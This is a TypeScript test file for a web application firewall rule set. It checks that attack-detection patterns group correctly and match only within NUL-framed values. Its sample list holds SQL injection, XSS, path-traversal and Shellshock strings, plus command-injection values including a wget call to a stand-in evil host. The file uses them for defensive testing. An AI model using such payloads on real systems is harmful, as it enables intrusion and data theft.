import appsec from '@datadog/native-appsec';
import { afterAll, describe, expect, it } from 'vitest';
import {
  buildRuleSet,
  confineToValue,
  PATH_ADDRESS,
  screenGroups,
  TEXT_ADDRESS,
  VALUE_PATH_ADDRESS,
  VALUE_TEXT_ADDRESS,
} from './attack-rule-set.js';
import { REGEX_RULES } from './attack-rules.js';

const waf = new appsec.DDWAF(buildRuleSet(), 'test');
afterAll(() => waf.dispose());

/** The ids of the rules that match, for one run over the given addresses. */
function matching(payload: Record<string, string[]>): string[] {
  const context = waf.createContext();
  try {
    const events = (context.run({ ephemeral: payload }, 5_000_000).events ?? []) as Array<{
      rule: { id: string };
    }>;
    return events.map((event) => event.rule.id).sort();
  } finally {
    context.dispose();
  }
}

/** A value each pattern matches, and values that look close but match none. */
const SAMPLES = [
  "x' OR 1=1",
  "admin'--",
  "'",
  '1 UNION SELECT NULL,NULL--',
  'ORDER BY 3',
  "1' AND SLEEP(5)--",
  "'INJ'||'ECT'",
  'select @@version',
  '<script>alert(1)</script>',
  '</div>',
  '" onfocus=alert(1) x="',
  'javascript:alert(1)',
  '+ADw-script+AD4-',
  '"><b>',
  'a{behavior:url(x)}',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  './/./x',
  '/etc/shadow',
  'php://filter/resource=x',
  '; wget http://evil.example/x',
  '| id',
  '() { :;}; echo',
  'bash -c id',
  "Ben & Jerry's",
  'Please select the union plan; drop-in replacement',
  'C:/Program Files/App',
  '5 > 3 and 2 < 4',
  'note number 7, nothing to see',
];

describe('the rule set', () => {
  it('places every pattern in exactly one screen, path patterns apart', () => {
    const groups = screenGroups();
    expect(groups.flatMap((group) => group.rules.map((rule) => rule.id)).sort()).toEqual(
      REGEX_RULES.map((rule) => rule.id).sort(),
    );
    for (const group of groups) expect(new Set(group.rules.map((rule) => rule.path === true)).size).toBe(1);
  });

  it('is accepted whole by libddwaf', () => {
    expect((waf.diagnostics.rules as { failed?: string[] }).failed ?? []).toEqual([]);
  });

  it('screens a value framed in a chunk exactly when a separate pattern matches it alone', () => {
    const screenOf = new Map(
      screenGroups().flatMap((group) => group.rules.map((rule) => [rule.id, group.id] as const)),
    );
    let matched = 0;
    for (const sample of SAMPLES) {
      const separate = matching({ [VALUE_TEXT_ADDRESS]: [sample] });
      const screens = matching({ [TEXT_ADDRESS]: [`\u0000${sample}\u0000`] });
      expect(screens, sample).toEqual([...new Set(separate.map((id) => screenOf.get(id)!))].sort());
      if (separate.length > 0) matched += 1;
    }
    expect(matched).toBeGreaterThanOrEqual(24);
  });

  it('does not let a pattern reach across the NUL between two values of a chunk', () => {
    const pairs = [
      ['select count', '(x) from t'],
      ['sleep', '(5)'],
      ['union ', 'select name from t'],
      ['document', '.cookie'],
      ['a && /usr/bin', '/whoami'],
    ];
    for (const [first, second] of pairs) {
      expect(matching({ [VALUE_TEXT_ADDRESS]: [first!, second!] }), first).toEqual([]);
      expect(matching({ [VALUE_TEXT_ADDRESS]: [first! + second!] }), first).not.toEqual([]);
      expect(matching({ [TEXT_ADDRESS]: [`\u0000${first}\u0000${second}\u0000`] }), first).toEqual([]);
    }
  });

  it('reads path forms with the traversal patterns only', () => {
    expect(matching({ [PATH_ADDRESS]: ["\u0000x' OR 1=1\u0000../../etc/passwd\u0000"] })).toEqual([
      'screen-traversal',
    ]);
    expect(matching({ [VALUE_PATH_ADDRESS]: ["x' OR 1=1", '../../etc/passwd'] })).toEqual([
      'traversal-dot-dot',
      'traversal-sensitive-file',
    ]);
  });
});

describe('confineToValue', () => {
  it('anchors at the NUL framing each value and keeps negated classes from crossing it', () => {
    expect(confineToValue('^a[^>]*b$')).toBe('\\x00a[^\\x00>]*b\\x00');
  });

  it('leaves escapes and ordinary classes alone', () => {
    expect(confineToValue('\\^\\$[\\w.$^]x')).toBe('\\^\\$[\\w.$^]x');
  });
});
